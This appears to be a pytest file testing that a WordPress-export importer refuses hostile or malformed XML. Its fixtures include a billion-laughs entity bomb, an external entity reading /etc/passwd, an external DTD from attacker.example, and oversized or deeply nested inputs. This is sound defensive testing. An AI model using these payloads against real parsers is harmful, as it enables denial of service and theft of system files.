"""Files that try to hurt: entity bombs, external entities, broken or foreign XML,
odd encodings. Each is refused (or read) with a clear message and nothing written."""

import builtins

import pytest

from tests.imports.builders import item, wxr
from tests.imports.conftest import everything, import_path
from watchworthy.imports.common import ImportFailed
from watchworthy.reviews.models import Review

pytestmark = pytest.mark.django_db

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">
"""


def nothing_written() -> bool:
    return all(n == 0 for n in everything().values())


def body_with(entity: str) -> str:
    return wxr(item(1, "Bomb", content=f"before {entity} after")).split("\n", 1)[1]


def test_billion_laughs_is_refused(write_file):
    path = write_file(BILLION_LAUGHS + body_with("&lol9;"))
    with pytest.raises(ImportFailed) as failure:
        import_path(path)
    assert "entity" in str(failure.value) and "billion laughs" in str(failure.value)
    assert "line 3" in str(failure.value)
    assert nothing_written()


def test_an_external_entity_is_refused_and_never_read(write_file, monkeypatch):
    opened = []
    real_open = builtins.open

    def spying_open(file, *args, **kwargs):
        opened.append(str(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", spying_open)
    path = write_file(
        EXTERNAL_ENTITY + wxr(item(1, "Leak", content="<p>&secret;</p>")).split("\n", 1)[1]
    )
    with pytest.raises(ImportFailed) as failure:
        import_path(path)
    assert "external entity" in str(failure.value)
    assert not any("passwd" in name for name in opened)
    assert nothing_written()


def test_an_external_entity_used_in_the_content_never_reaches_the_site(write_file):
    # Even without reaching the declaration check (entity used, never declared).
    path = write_file(
        wxr(item(1, "Leak", content="x"))
        .replace("<p>Text.</p>", "")
        .replace("<title>Leak</title>", "<title>&secret;</title>")
    )
    with pytest.raises(ImportFailed) as failure:
        import_path(path)
    assert "undefined entity" in str(failure.value)
    assert nothing_written()


def test_an_external_dtd_is_refused(write_file):
    path = write_file(EXTERNAL_DTD + body_with("x"))
    with pytest.raises(ImportFailed) as failure:
        import_path(path)
    assert "external DTD" in str(failure.value)
    assert nothing_written()


def test_a_truncated_file_is_refused_with_its_line(write_file):
    text = wxr(item(1, "First"), item(2, "Second"))
    cut = text[: text.index("<title>Second")]
    path = write_file(cut)
    with pytest.raises(ImportFailed) as failure:
        import_path(path)
    lines = cut.count("\n") + 1
    assert "not well-formed" in str(failure.value)
    assert f"line {lines}" in str(failure.value)
    assert nothing_written()  # the first item was already written, then rolled back


@pytest.mark.parametrize(
    "document",
    [
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>',
        '<?xml version="1.0"?><html><body>Not an export</body></html>',
    ],
)
def test_a_wrong_root_element_is_refused(write_file, document):
    with pytest.raises(ImportFailed) as failure:
        import_path(write_file(document))
    assert "not a WordPress export" in str(failure.value)
    assert "root element" in str(failure.value)
    assert nothing_written()


def test_an_rss_feed_without_wordpress_elements_is_refused(write_file):
    feed = (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Feed</title>'
        "<item><title>Just RSS</title><link>http://x.example/a</link></item></channel></rss>"
    )
    with pytest.raises(ImportFailed) as failure:
        import_path(write_file(feed))
    assert "not a WordPress export" in str(failure.value)
    assert nothing_written()


def test_an_empty_file_is_refused(write_file):
    with pytest.raises(ImportFailed) as failure:
        import_path(write_file(b""))
    assert "line 1" in str(failure.value)


@pytest.mark.parametrize("encoding", ["ISO-8859-1", "windows-1252", "UTF-16"])
def test_declared_non_utf8_encodings_are_read(write_file, encoding):
    text = wxr(
        item(1, "Critique: Amélie à la française", content="<p>Très bien, naïve — “œuvre”.</p>"),
        encoding=encoding,
    )
    if encoding == "ISO-8859-1":
        text = text.replace("—", "-").replace("“", '"').replace("”", '"').replace("œ", "oe")
    import_path(write_file(text, encoding=encoding))
    review = Review.objects.get()
    assert review.title == "Critique: Amélie à la française"
    assert "Très bien, naïve" in review.body_html


def test_an_encoding_nobody_knows_is_refused(write_file):
    text = wxr(item(1, "x"), encoding="x-no-such-encoding")
    with pytest.raises(ImportFailed) as failure:
        import_path(write_file(text))
    assert "encoding" in str(failure.value)
    assert nothing_written()


def test_one_giant_item_is_refused_not_swallowed(write_file, monkeypatch):
    from watchworthy.imports import xmlstream

    monkeypatch.setattr(xmlstream, "MAX_TEXT", 1000)
    monkeypatch.setattr(xmlstream, "MAX_ELEMENTS", 50)
    text = wxr(item(1, "Huge", content="x" * 5000))
    with pytest.raises(ImportFailed) as failure:
        import_path(write_file(text))
    assert "more than" in str(failure.value) and "memory bounded" in str(failure.value)
    many = wxr(item(1, "Many", meta={f"k{n}": "v" for n in range(100)}))
    with pytest.raises(ImportFailed) as failure:
        import_path(write_file(many))
    assert "50 elements" in str(failure.value)
    assert nothing_written()


def test_a_giant_attribute_is_refused_quickly_naming_the_item(write_file):
    """200 MB in one attribute ran for minutes (expat re-reads an unfinished tag with
    every chunk); now anything over 4 MiB without a '>' stops the import at once."""
    giant = '<wp:postmeta data-x="' + "a" * (6 * 1024 * 1024) + '"></wp:postmeta>'
    text = wxr(item(1, "Has a giant attribute", content="Fine.")).replace(
        "</item>", giant + "</item>"
    )
    with pytest.raises(ImportFailed) as failure:
        import_path(write_file(text))
    message = str(failure.value)
    assert "without a closing '>'" in message and "<item> that starts at line" in message
    assert nothing_written()


def test_elements_nested_absurdly_deep_are_refused(write_file):
    deep = "<x>" * 150 + "</x>" * 150
    text = wxr(item(1, "Deep", content="Fine.")).replace("</item>", deep + "</item>")
    with pytest.raises(ImportFailed) as failure:
        import_path(write_file(text))
    assert "nested more than 100 deep" in str(failure.value)
    assert nothing_written()


def test_many_large_text_nodes_in_one_item_are_refused(write_file, monkeypatch):
    from watchworthy.imports import xmlstream

    monkeypatch.setattr(xmlstream, "MAX_SUBTREE_TEXT", 10_000)
    metas = {f"k{n}": "v" * 3000 for n in range(12)}  # each under MAX_TEXT, together over
    with pytest.raises(ImportFailed) as failure:
        import_path(write_file(wxr(item(1, "Heavy", meta=metas))))
    assert "10,000 characters of text" in str(failure.value)
    assert nothing_written()


def test_a_post_of_deeply_nested_divs_imports_with_its_text(write_file):
    """400 KB of nested <div> took 79 s to import (the HTML parser's cost grew with
    the square of the nesting); it is flattened past 100 levels before parsing."""
    content = "<div>" * 40_000 + "the words" + "</div>" * 40_000
    import_path(write_file(wxr(item(1, "Nested", content=content))))
    (review,) = Review.objects.all()
    assert "the words" in review.body_html
    assert review.body_html.count("<div>") <= 100
